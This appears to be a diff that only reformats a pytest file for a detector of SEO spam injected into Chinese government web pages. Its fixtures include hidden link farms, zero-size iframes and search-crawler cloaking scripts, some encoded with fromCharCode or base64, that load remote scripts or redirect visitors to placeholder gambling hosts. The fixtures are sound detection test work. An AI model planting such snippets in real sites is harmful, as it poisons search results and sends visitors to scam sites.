@@ -41,12 +41,18 @@ def strong(body: str, head: str = "<title>某某县人民政府</title>") -> set
         (f"<span style='font-size:0'>{FARM}</span>", "hidden_links"),
         (f"<marquee width='1' height='1'>{FARM}</marquee>", "hidden_links"),
         (f"<style>#zx9{{display:none}}</style><div id=zx9>{FARM}</div>", "hidden_links"),
-        (f"<div id=aa1>{FARM}</div><script>document.getElementById('aa1').style.display='none'</script>", "hidden_links"),
+        (
+            f"<div id=aa1>{FARM}</div><script>document.getElementById('aa1').style.display='none'</script>",
+            "hidden_links",
+        ),
         (
             f"<script>document.write('<div style=\"display:none\">')</script>{FARM}<script>document.write('</div>')</script>",
             "hidden_links",
         ),
-        (f"<script>document.write('<div style=\"display:none\">{FARM.replace(chr(39), '')}</div>')</script>", "hidden_links"),
+        (
+            f"<script>document.write('<div style=\"display:none\">{FARM.replace(chr(39), '')}</div>')</script>",
+            "hidden_links",
+        ),
         (f"<ul class='menu' style='display:none'>{GAMBLING}</ul>", "hidden_words"),
         (f"<p>友情链接</p>{GAMBLING}", "bad_links"),
         ("<iframe src='http://bad.example-x.top/m.htm' width=0 height=0></iframe>", "hidden_frame"),
@@ -60,13 +66,20 @@ def strong(body: str, head: str = "<title>某某县人民政府</title>") -> set
             "<script>if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write('<script src=\"//js.jump888.com/a.js\"><\\/script>')}</script>",
             "cloaking_script",
         ),
-        ("<script>document.title='无法找到该网页';document.write('<h1>HTTP 错误 404</h1>')</script>", "fake_404_script"),
         (
-            "<script>eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in "if(document.referrer.match(/baidu/))location='http://x8.vip/'") + "))</script>",
+            "<script>document.title='无法找到该网页';document.write('<h1>HTTP 错误 404</h1>')</script>",
+            "fake_404_script",
+        ),
+        (
+            "<script>eval(String.fromCharCode("
+            + ",".join(str(ord(c)) for c in "if(document.referrer.match(/baidu/))location='http://x8.vip/'")
+            + "))</script>",
             "cloaking_script",
         ),
         (
-            "<script>eval(atob('" + base64.b64encode(b"if(document.referrer.match(/baidu/)){location='http://x8.vip/'}").decode() + "'))</script>",
+            "<script>eval(atob('"
+            + base64.b64encode(b"if(document.referrer.match(/baidu/)){location='http://x8.vip/'}").decode()
+            + "'))</script>",
             "cloaking_script",
         ),
     ],
@@ -99,7 +112,9 @@ def test_an_encoded_title_alone_is_a_hint() -> None:
     assert describe(sign).endswith("某某县人民政府")
 
 
-MEDIA = "".join(f"<a href='http://www.{host}/'>链接</a>" for host in ("people.com.cn", "xinhuanet.com", "cctv.com", "gmw.cn"))
+MEDIA = "".join(
+    f"<a href='http://www.{host}/'>链接</a>" for host in ("people.com.cn", "xinhuanet.com", "cctv.com", "gmw.cn")
+)
 SHOPS = "".join(f"<a href='http://www.shop{n}.com/'>企业{n}</a>" for n in range(6))
 GOV = "".join(f"<a href='http://www.x{n}.gov.cn/'>某局{n}</a>" for n in range(6))
 
@@ -137,7 +152,14 @@ def test_honest_content_is_not_accused(body: str) -> None:
 
 @pytest.mark.parametrize(
     "title",
-    ["打击网络赌博专项行动公告", "中国福利彩票开奖公告", "关于查处代开发票违法行为的通报", "市体育彩票中心", "全县严打六合彩", "警惕刷单兼职骗局"],
+    [
+        "打击网络赌博专项行动公告",
+        "中国福利彩票开奖公告",
+        "关于查处代开发票违法行为的通报",
+        "市体育彩票中心",
+        "全县严打六合彩",
+        "警惕刷单兼职骗局",
+    ],
 )
 def test_titles_that_fight_or_mean_well(title: str) -> None:
     assert strong("", f"<title>{title}</title>") == set()
@@ -175,6 +197,9 @@ def test_a_fetched_script_that_fakes_a_404() -> None:
     assert [sign.kind for sign in read_script(script, Strangers(HOSTS))] == ["fake_404_script"]
 
 
-@given(st.text(max_size=600), st.sampled_from(["{}", "<div style='{}'>x</div>", "<script>{}</script>", "<a href='{}'>百家乐</a>", "<title>{}"]))
+@given(
+    st.text(max_size=600),
+    st.sampled_from(["{}", "<div style='{}'>x</div>", "<script>{}</script>", "<a href='{}'>百家乐</a>", "<title>{}"]),
+)
 def test_never_raises(text: str, shape: str) -> None:
     signs(shape.replace("{}", text))
